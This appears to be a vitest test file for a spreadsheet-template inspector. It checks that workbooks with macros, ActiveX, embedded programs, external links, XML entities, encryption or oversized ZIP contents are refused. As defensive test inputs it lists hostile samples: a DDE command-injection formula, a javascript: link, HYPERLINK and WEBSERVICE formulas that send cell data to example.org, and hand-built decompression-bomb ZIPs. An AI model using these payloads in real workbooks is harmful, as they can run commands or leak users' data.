/** What is refused as a Buyer's template, by its content and whatever it is called (3.7, 3.9). */
import { randomBytes } from 'node:crypto';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, it, test } from 'vitest';
import { day } from '../../../extensions/peer-mentoring/src/domain/calendar/calendar-day.ts';
import type { TemplateFault } from '../../../extensions/peer-mentoring/src/workbook/template/fault.ts';
import { fillTemplate } from '../../../extensions/peer-mentoring/src/workbook/template/fill.ts';
import { inspectTemplate } from '../../../extensions/peer-mentoring/src/workbook/template/inspect.ts';
import { bytesOf } from '../../../extensions/peer-mentoring/src/workbook/template/pack.ts';
import { libraryTemplate, RAW_PARTS, rawTemplate, zipOf } from '../support/workbooks.ts';

const faultOf = (file: Buffer) =>
	inspectTemplate(file).then(
		() => 'taken',
		(error: TemplateFault) => error.code,
	);

const SHEET = 'xl/worksheets/sheet1.xml';
const BOOK = 'xl/workbook.xml';
const LINKS = 'xl/_rels/workbook.xml.rels';
const TYPES = '[Content_Types].xml';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const inTypes = (type: string) => RAW_PARTS[TYPES]!.replace('spreadsheetml.sheet.main+xml', type);
const withLink = (type: string, target: string) =>
	RAW_PARTS[LINKS]!.replace(
		'</Relationships>',
		`<Relationship Id="r9" Type="${REL}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
	);
const withPart = (target: string) =>
	RAW_PARTS[LINKS]!.replace(
		'</Relationships>',
		`<Relationship Id="r9" Type="${REL}/theme" Target="${target}"/></Relationships>`,
	);
const withSheets = (sheets: string) => RAW_PARTS[BOOK]!.replace('</sheets>', `${sheets}</sheets>`);
const withFormula = (formula: string) => RAW_PARTS[SHEET]!.replace('COUNTA(A4:A1000)', formula);
const withDoctype = (part: string) => part.replace('?>\n', '?>\n<!DOCTYPE x [<!ENTITY a "b">]>');
const compound = (text: string) =>
	Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600), Buffer.from(text, 'utf16le')]);

describe('a workbook', () => {
	it('of several makes is taken', async () => {
		expect(await faultOf(await rawTemplate())).toBe('taken');
		expect(await faultOf(await libraryTemplate())).toBe('taken');
	});

	it('keeps links that people follow, and formulas that lead within it', async () => {
		const link = await rawTemplate({ [LINKS]: withLink('hyperlink', 'https://www.gov.uk/') });
		const within = await rawTemplate({ [SHEET]: withFormula('HYPERLINK("#Lists!A1","Lists")') });
		expect([await faultOf(link), await faultOf(within)]).toEqual(['taken', 'taken']);
	});

	test.each<[string, Record<string, string | Buffer | undefined>, string]>([
		['with macros', { 'xl/vbaProject.bin': Buffer.from('x') }, 'macros'],
		[
			'that says it may have macros',
			{
				[TYPES]: inTypes('x').replace(
					'vnd.openxmlformats-officedocument.x',
					'vnd.ms-excel.sheet.macroEnabled.main+xml',
				),
			},
			'macros',
		],
		['with macros of Excel 4', { 'xl/macrosheets/sheet1.xml': '<x/>' }, 'macros'],
		['with buttons of its own', { 'customUI/customUI.xml': '<x/>' }, 'macros'],
		['with controls', { 'xl/activeX/activeX1.xml': '<x/>' }, 'active_content'],
		['with an embedded program', { 'xl/embeddings/oleObject1.bin': Buffer.from('MZ') }, 'active_content'],
		['with links to another workbook', { 'xl/externalLinks/externalLink1.xml': '<x/>' }, 'outside_data'],
		['with a data connection', { 'xl/connections.xml': '<x/>' }, 'outside_data'],
		['with a query', { 'xl/queryTables/queryTable1.xml': '<x/>' }, 'outside_data'],
		['with a picture from outside', { [LINKS]: withLink('image', 'http://example.org/track.png') }, 'outside_data'],
		['with a link to a script', { [LINKS]: withLink('hyperlink', 'javascript:alert(1)') }, 'outside_data'],
		['with a link to a file server', { [LINKS]: withLink('hyperlink', 'file://server/share') }, 'outside_data'],
		['with a program in it', { 'xl/media/run.exe': Buffer.from('MZ') }, 'unknown_part'],
		[
			'that is binary',
			{
				[TYPES]: RAW_PARTS[TYPES]!.replace(
					'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
					'vnd.ms-excel.sheet.binary.macroEnabled.main',
				),
			},
			'macros',
		],
		['that is a document of words', { [TYPES]: inTypes('document.main+xml') }, 'not_a_workbook'],
		['without a list of its parts', { [TYPES]: undefined }, 'not_a_workbook'],
		['with a document type', { [SHEET]: withDoctype(RAW_PARTS[SHEET]!) }, 'unsafe_xml'],
		['with a document type in its drawing', { 'xl/drawings/a.vml': '<!DOCTYPE x><xml/>' }, 'unsafe_xml'],
		['with a document type in its links', { [LINKS]: withDoctype(RAW_PARTS[LINKS]!) }, 'unsafe_xml'],
		['in another encoding', { [SHEET]: Buffer.from(`\ufeff${RAW_PARTS[SHEET]!}`, 'utf16le') }, 'broken'],
		['that says another encoding', { [SHEET]: RAW_PARTS[SHEET]!.replace('UTF-8', 'UTF-7') }, 'unsafe_xml'],
		['with a link that is no address', { [LINKS]: withPart('//[') }, 'broken'],
		['with a link of letters that are none', { [LINKS]: withPart('a%E0%A4%A.xml') }, 'broken'],
		[
			'with a sheet that is there twice',
			{ [BOOK]: withSheets('<sheet name="Again" sheetId="3" r:id="rId1"/>') },
			'broken',
		],
		['with a sheet that breaks off', { [SHEET]: RAW_PARTS[SHEET]!.slice(0, -5) }, 'broken'],
		['with rows out of order', { [SHEET]: RAW_PARTS[SHEET]!.replace('<row r="4"', '<row r="2"') }, 'broken'],
	])('%s is refused', async (_, changes, fault) => {
		expect(await faultOf(await rawTemplate(changes))).toBe(fault);
	});

	test.each([
		'HYPERLINK("http://example.org/?"&amp;A1,"x")',
		'_xlfn.WEBSERVICE("http://example.org")',
		"cmd|' /C calc'!A0",
		'[1]Sheet1!A1',
		"'C:\\[book.xlsx]Sheet1'!A1",
		'RTD("x",,"y")',
		'hyperlink ("http://example.org")',
		'HYPER&#76;INK("http://example.org")',
	])('with the formula %s is refused', async (formula) => {
		expect(await faultOf(await rawTemplate({ [SHEET]: withFormula(formula) }))).toBe('outside_formula');
	});

	it('with such a formula in a name is refused', async () => {
		const workbook = RAW_PARTS['xl/workbook.xml']!.replace('Lists!$A$1:$A$2', 'WEBSERVICE("http://example.org")');
		expect(await faultOf(await rawTemplate({ 'xl/workbook.xml': workbook }))).toBe('outside_formula');
	});
});

describe('a file that is no workbook', () => {
	test.each<[string, Buffer, string]>([
		['nothing', Buffer.alloc(0), 'empty'],
		['text', Buffer.from('NINO,Start\n'), 'not_a_workbook'],
		['an old workbook (.xls)', compound('Workbook'), 'old_or_binary'],
		['an encrypted workbook', compound('EncryptedPackage'), 'encrypted'],
		['the beginning of a ZIP file', Buffer.from('PK\x03\x04 and no more', 'latin1'), 'broken'],
	])('%s is refused', async (_, file, fault) => {
		expect(await faultOf(file)).toBe(fault);
	});

	it('another kind of ZIP file is refused', async () => {
		expect(await faultOf(await zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }))).toBe(
			'not_a_workbook',
		);
	});

	it('a workbook behind a program is refused', async () => {
		const file = Buffer.concat([Buffer.from('MZ a program'), await rawTemplate()]);
		expect(await faultOf(file)).toBe('not_a_workbook');
	});

	it('a workbook that breaks off is refused', async () => {
		const whole = await rawTemplate();
		expect(await faultOf(whole.subarray(0, whole.length - 40))).toBe('broken');
	});
});

/** A ZIP file with one part whose directory says what we like. */
function handMadeZip(content: Buffer, says: { unpacked: number; entries?: number; encrypted?: boolean }): Buffer {
	const name = Buffer.from('xl/worksheets/sheet1.xml');
	const packed = deflateRawSync(content);
	const flags = says.encrypted ? 1 : 0;
	const local = Buffer.alloc(30);
	local.writeUInt32LE(0x04034b50, 0);
	local.writeUInt16LE(flags, 6);
	local.writeUInt16LE(8, 8);
	local.writeUInt32LE(packed.length, 18);
	local.writeUInt32LE(says.unpacked, 22);
	local.writeUInt16LE(name.length, 26);
	const directory = (index: number) => {
		const own = Buffer.from(`${name.toString()}${index || ''}`);
		const entry = Buffer.alloc(46);
		entry.writeUInt32LE(0x02014b50, 0);
		entry.writeUInt16LE(flags, 8);
		entry.writeUInt16LE(8, 10);
		entry.writeUInt32LE(packed.length, 20);
		entry.writeUInt32LE(says.unpacked, 24);
		entry.writeUInt16LE(own.length, 28);
		return Buffer.concat([entry, own]);
	};
	const count = says.entries ?? 1;
	const central = Buffer.concat(Array.from({ length: count }, (_, index) => directory(index)));
	const body = Buffer.concat([local, name, packed]);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(count, 8);
	end.writeUInt16LE(count, 10);
	end.writeUInt32LE(central.length, 12);
	end.writeUInt32LE(body.length, 16);
	return Buffer.concat([body, central, end]);
}

describe('a file that unpacks to more than it should', () => {
	const zeros = Buffer.alloc(30 * 1024 * 1024);

	it('is refused by its directory, before anything is unpacked', async () => {
		const started = performance.now();
		expect(await faultOf(handMadeZip(zeros, { unpacked: zeros.length }))).toBe('unpacks_too_large');
		expect(await faultOf(handMadeZip(Buffer.alloc(10), { unpacked: 4_000_000_000 }))).toBe('unpacks_too_large');
		expect(performance.now() - started).toBeLessThan(2000);
	});

	it('is refused where the same bytes are counted for several parts', async () => {
		const file = handMadeZip(randomBytes(1000), { unpacked: 1000, entries: 50 });
		expect(await faultOf(file)).toBe('unpacks_too_large');
	});

	it('is refused where its directory lies about it', async () => {
		const parts = await zipOf({ ...RAW_PARTS, [SHEET]: `<worksheet>${' '.repeat(200_000)}</worksheet>` });
		// The size that the directory gives for the sheet, made smaller.
		const at = parts.indexOf(Buffer.from(SHEET), parts.indexOf(Buffer.from('PK\x01\x02', 'latin1'))) - 46;
		parts.writeUInt32LE(100, at + 24);
		expect(await faultOf(parts)).toBe('broken');
	});

	it('is refused where it has too many parts', async () => {
		expect(await faultOf(handMadeZip(Buffer.from('x'), { unpacked: 1, entries: 2500 }))).toBe('too_many_parts');
	});

	it('is refused where its formats alone are larger than a workbook is', async () => {
		const styles = RAW_PARTS['xl/styles.xml']!.replace('<cellStyles', `${'<!-- -->'.repeat(600_000)}<cellStyles`);
		expect(await faultOf(await rawTemplate({ 'xl/styles.xml': styles }))).toBe('unpacks_too_large');
	});

	it('is refused where a part is encrypted', async () => {
		expect(await faultOf(handMadeZip(Buffer.from('x'), { unpacked: 1, encrypted: true }))).toBe('encrypted');
	});
});

describe('a small file that would keep a reader busy', () => {
	const inSheet = (before: string, added: string) => RAW_PARTS[SHEET]!.replace(before, added + before);
	const times = (number: number, text: (index: number) => string) =>
		Array.from({ length: number }, (_, index) => text(index)).join('');
	const sparse = times(60_000, (index) => `<row r="${2 * index + 10}"><c><v>1</v></c></row>`);
	const name = (index: number) => `<definedName name="n${index}">Lists!$A$1</definedName>`;
	const format = `<numFmts><numFmt numFmtId="164" formatCode="${'['.repeat(150_000)}"/></numFmts><fonts`;
	const styles = (before: RegExp, after: string) => RAW_PARTS['xl/styles.xml']!.replace(before, after);

	test.each<[string, Record<string, string>, string]>([
		['a formula of nothing but brackets', { [SHEET]: withFormula('['.repeat(150_000)) }, 'taken'],
		['a link of nothing but signs', { [LINKS]: withPart(`${'#'.repeat(150_000)}\n`) }, 'taken'],
		['a tag of nothing but spaces', { [SHEET]: RAW_PARTS[SHEET]!.replace(/<sheetData>.*<\/sheetData>/s, `<sheetData${' '.repeat(150_000)} a="b"/>`) }, 'taken'],
		['a format of nothing but brackets', { 'xl/styles.xml': styles(/<fonts/, format).replace(/numFmtId="\d+"(?=[^>]*xfId)/g, 'numFmtId="164"') }, 'taken'],
		['more merged cells than a form has', { [SHEET]: inSheet('</mergeCells>', '<mergeCell ref="A9:B9"/>'.repeat(60_000)) }, 'unpacks_too_large'],
		['more columns than a sheet has', { [SHEET]: inSheet('</cols>', '<col min="1" max="1" style="1"/>'.repeat(60_000)) }, 'unpacks_too_large'],
		['more names than a form has', { [BOOK]: RAW_PARTS[BOOK]!.replace('</definedNames>', `${times(60_000, name)}</definedNames>`) }, 'unpacks_too_large'],
		['more single cells than a form has', { [SHEET]: inSheet('</sheetData>', sparse) }, 'unpacks_too_large'],
	])('%s is read in no time', async (_, changes, outcome) => {
		const file = await rawTemplate(changes);
		const started = performance.now();
		expect(await faultOf(file)).toBe(outcome);
		// A day in a cell of another format: its format is looked at, and the formats are written anew.
		const cell = { sheet: 'Lists', cell: { column: 3, row: 1 }, value: { day: day('2024-06-30') } };
		if (outcome === 'taken') await bytesOf(await fillTemplate(file, { cells: [cell] }));
		expect(performance.now() - started).toBeLessThan(3000);
	}, 120_000); // prettier-ignore
});

describe('what a workbook has', () => {
	it('is found in it: sheets, formulas, merged cells, names of single cells', async () => {
		expect(await inspectTemplate(await rawTemplate())).toEqual({
			sheets: [
				{
					name: 'Tracker & more',
					merges: [{ from: { column: 1, row: 2 }, to: { column: 3, row: 2 } }],
					formulas: [[4, 1, 1], [5, 1, 1]],
					filled: [[1, 1, 4], [4, 1, 1], [5, 1, 1], [2, 3, 3], [3, 3, 3]],
				},
				{ name: 'Lists', merges: [], formulas: [], filled: [[1, 1, 2]] },
			],
			names: [{ name: 'Month', sheet: 'Tracker & more', cell: { column: 2, row: 1 } }],
		}); // prettier-ignore
	});

	it('counts a merged range with a name as the one cell that it shows', async () => {
		const book = new ExcelJS.Workbook();
		book.addWorksheet("It's").mergeCells('B2:D3');
		book.definedNames.add("'It''s'!$B$2:$D$3", 'Title');
		const file = Buffer.from((await book.xlsx.writeBuffer()) as ArrayBuffer);
		expect((await inspectTemplate(file)).names).toEqual([
			{ name: 'Title', sheet: "It's", cell: { column: 2, row: 2 } },
		]);
	});
});

describe('a large workbook', () => {
	it('is read in turns, so that others are not kept waiting', async () => {
		const row = (number: number) =>
			`<row r="${number}">${['A', 'B', 'C', 'D'].map((column) => `<c r="${column}${number}"><v>${number * 7919}</v></c>`).join('')}</row>`;
		const rows = Array.from({ length: 60_000 }, (_, index) => row(index + 1)).join('');
		const file = await rawTemplate({
			[SHEET]: RAW_PARTS[SHEET]!.replace(/<sheetData>.*<\/sheetData>/s, `<sheetData>${rows}</sheetData>`),
		});
		const delay = monitorEventLoopDelay({ resolution: 5 });
		delay.enable();
		await inspectTemplate(file);
		for await (const _chunk of await fillTemplate(file, { cells: [] }));
		delay.disable();
		expect(delay.max / 1e6).toBeLessThan(1000);
	}, 60_000);
});
